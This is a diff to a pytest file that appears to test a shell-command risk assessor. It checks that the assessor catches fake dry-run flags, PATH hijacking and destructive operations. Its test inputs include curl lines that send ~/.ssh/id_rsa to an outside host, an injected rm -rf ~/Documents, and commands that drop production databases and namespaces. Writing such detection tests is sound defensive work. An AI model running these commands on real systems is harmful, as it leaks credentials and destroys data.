@@ -54,6 +54,10 @@ def judged(code: str) -> Assessment:
         ("magick a.png -resize 50% b.jpg", "Converts a.png to b.jpg by “magick”."),
         ("mysql shop -e 'select a from orders join lines on 1'", "Queries orders and lines by “mysql”."),
         ("docker run --rm -p 8080:80 nginx:1.27", "Runs “nginx:1.27” in a container by"),
+        (
+            "gcloud storage rsync gs://a gs://b --recursive --delete-unmatched-destination-objects --dry-run",
+            "Shows what “gcloud storage rsync gs://a” would do (dry run).",
+        ),
         ("git clean -ndx", "Shows what “git clean -ndx” would do (dry run)."),
         ("rsync -anv a/ b/", "Shows what “rsync -anv a/ b/” would do (dry run)."),
         ("apt-get -s full-upgrade", "Shows what “apt-get -s full-upgrade” would do (dry run)."),
@@ -195,7 +199,137 @@ REAL = [
     CLONE.replace("work=$(mktemp -d)", 'work="$1"'),
     CLONE.replace('git -C "$work/a.git" filter-repo', "git filter-repo"),
     CLONE + 'git -C "$work/a.git" push --force --mirror origin\n',
+    CLONE.replace("--path big", "--commit-callback 'import os; os.remove(1)' --path big"),
+    'work=$(mktemp -d)\ncd ~/src\ngit clone -q "$1" "$work/a"\ncd "$work/a"\ngit reset --hard HEAD~5\n',
+    *(
+        STAND_IN.replace('echo "zpool $*" >> "$CALLS"', f"{first}\necho x")
+        for first in ("#!/sbin/zpool destroy tank", "#!/usr/bin/env -S zpool destroy -f tank", 'cat /sbin/zpool > "$0"')
+    ),
+    *(
+        STAND_IN.replace("zpool destroy", f"{before}\nzpool destroy")
+        for before in (
+            'n=PAT; printf -v "${n}H" /sbin',
+            'n=PAT; read "${n}H" <<< /sbin',
+            'n=PAT; export "${n}H=/sbin"',
+            'n=PAT; readonly "${n}H=/sbin"',
+            'n=PAT; mapfile -t "${n}H" <<< /sbin',
+            "n=PAT; local -n q=${n}H; q=/sbin",
+            "n=PATH; : ${!n:=/sbin}",
+            """trap "PAT""H=/sbin" DEBUG""",
+            "cat /sbin/zpool > /tmp/tmp.*/bin/zpool",
+            'x=${CALLS%calls}bin/zpool; cat /sbin/zpool > "$x"',
+            'd=$(dirname "$CALLS"); cat /sbin/zpool > "$d/bin/zpool"',
+            "systemd-tmpfiles --remove",
+            "make clean",
+            "umount /tmp",
+        )
+    ),
+    *(f"{name}() {{ :; }}\n{STAND_IN}" for name in ("cat", "chmod", "mkdir", "mktemp", "export")),
+    STAND_IN.replace('mkdir "$lab/bin"', 'mkdir "$lab/bin/x/y"'),
+    STAND_IN.replace('mkdir "$lab/bin"', 'umask 777; mkdir "$lab/bin"'),
+    STAND_IN.replace('mkdir "$lab/bin"', 'ulimit -f 0; mkdir "$lab/bin"'),
+    *(
+        CONTAINER.replace("mysql -uroot", client)
+        for client in (
+            "mysql --ho=10.0.0.1 -uroot",
+            "mysql -Bh 10.0.0.1 -uroot",
+            "mysql --login-path=prod -uroot",
+            "mysql --defaults-file=/x -uroot",
+            "env X=1 mysql -uroot",
+        )
+    ),
+    *(
+        CONTAINER.replace("mysql -uroot -px -e 'DROP TABLE orders'", f"{client} 'DROP TABLE orders'")
+        for client in (
+            "psql postgres@10.0.0.1 -c",
+            "psql 'service=prod' -c",
+            "psql -d 10.0.0.4/prod -c",
+            "psql -p 5432 -U a 172.17.0.1 -c",
+            "cqlsh 172.17.0.1 -e",
+        )
+    ),
+    CONTAINER.replace("'DROP TABLE orders'", "'connect prod 172.17.0.1; DROP TABLE orders'"),
+    CONTAINER.replace("mysql -uroot -px -e 'DROP TABLE orders'", "kubectl delete ns prod"),
+    *(
+        CONTAINER.replace("-d --rm", options)
+        for options in ("-dv /srv/db:/var/lib/mysql --rm", "-itdv /srv/db:/var/lib/mysql", "-d --group-add docker")
+    ),
+    *(
+        CONTAINER.replace("-e MYSQL_ROOT_PASSWORD=x", setting)
+        for setting in ("-ePGHOST=db.prod", "--env=PGHOST=db.prod", "--env=AWS_SECRET_ACCESS_KEY", "-e PGHOST")
+    ),
+    CONTAINER.replace('docker exec "$name"', 'docker exec -e MYSQL_HOST=db.prod "$name"'),
+    CONTAINER.replace('docker exec "$name"', 'docker --context prod exec "$name"'),
+    CONTAINER.replace("set -eu\n", "").replace("name=it-$RANDOM", "name=db${RANDOM//[0-9]/}"),
 ]
+DRY_NO_MORE = [
+    "rsync -an --no-dry-run --delete empty/ ~/Documents/",
+    "git -C ~/Documents clean -fdx -e -n",
+    "git -C ~/Documents clean -fdxe -n",
+    "git -C ~/Documents clean -n --no-dry-run -fdx",
+    "git -C ~/Documents clean -n --no-d -fdx",
+    "git push -n --no-dry-run --force origin main",
+    "git push --force -o -n origin main",
+    "git push --dry-run --no-dry-run --delete origin main",
+    "git reset --hard clean -n",
+    "git branch -D add -n",
+    "git tag -d v1 && git stash clear -n push",
+    "kubectl delete ns prod --dry-run=False",
+    "kubectl delete ns prod --dry-run=client --dry-run=none",
+    "kubectl delete ns prod --dry-run none",
+    "kubectl delete ns prod --as --dry-run",
+    "aws s3 rm s3://prod --recursive --exclude --dryrun",
+    "aws ec2 terminate-instances --instance-ids i-1 --dry-run --no-dry-run",
+    "helm uninstall web --description --dry-run",
+    "restic forget --keep-last 1 --prune --tag --dry-run",
+    "borg delete --comment --dry-run /srv/repo",
+    "rclone purge remote:prod --exclude --dry-run",
+    "npm publish --dry-run=false",
+    "npm publish --tag --dry-run",
+    "npm unpublish acme --force --no-dry-run",
+    "curl -G https://a.example --url-query k@$HOME/.ssh/id_rsa",
+    "curl https://a.example --variable k@$HOME/.ssh/id_rsa --expand-data '{{k}}'",
+    "curl -X DELETE api.a.example/users/7",
+    "psql -c 'GRANT SELECT ON a /* ; */ TO PUBLIC'",
+    "psql -c 'GRANT SELECT ON \"a;b\" TO PUBLIC'",
+    "psql -c 'GRANT/**/ALL ON a TO PUBLIC'",
+    "psql -c 'GRANT ALL ON a TO bob, PUBLIC'",
+    "psql -c 'ALTER TABLE a DISABLE/**/ROW LEVEL SECURITY'",
+    "echo $((a[$(rm -rf ~/Documents)]))",
+]
+
+
+@pytest.mark.parametrize("code", DRY_NO_MORE)
+def test_what_is_done_for_all_the_words_of_a_dry_run_is_raised(code: str) -> None:
+    said = judged(code)
+    assert said.attention is not None and said.attention >= Level.HIGH, said.verdict.sentence
+    assert "would do" not in said.verdict.sentence
+
+
+def test_nothing_is_said_of_what_a_program_that_nobody_knows_does_with_the_word() -> None:
+    assert "would do" not in judged("wobble database drop prod --dry-run").verdict.sentence
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "git push --force --dry-run origin main",
+        "git -C src clean -f -d -n",
+        "git rm -r -n old",
+        "kubectl delete ns prod --wait --dry-run=server",
+        "kubectl delete -f a.yaml --dry-run=client -o yaml",
+        "aws s3 rm s3://prod --recursive --dryrun",
+        "aws ec2 terminate-instances --instance-ids i-1 --dry-run",
+        "restic forget --keep-last 1 --prune --dry-run",
+        "rsync -av --delete --dry-run a/ ~/Documents/",
+        "apt-get -y -s dist-upgrade",
+        "helm uninstall web -n shop --dry-run",
+        "npm publish --access public --dry-run",
+        "rclone purge remote:prod --dry-run",
+    ],
+)
+def test_a_dry_run_stays_one(code: str) -> None:
+    assert judged(code).attention is None, judged(code).verdict.sentence
 
 
 @pytest.mark.parametrize("code", REAL)
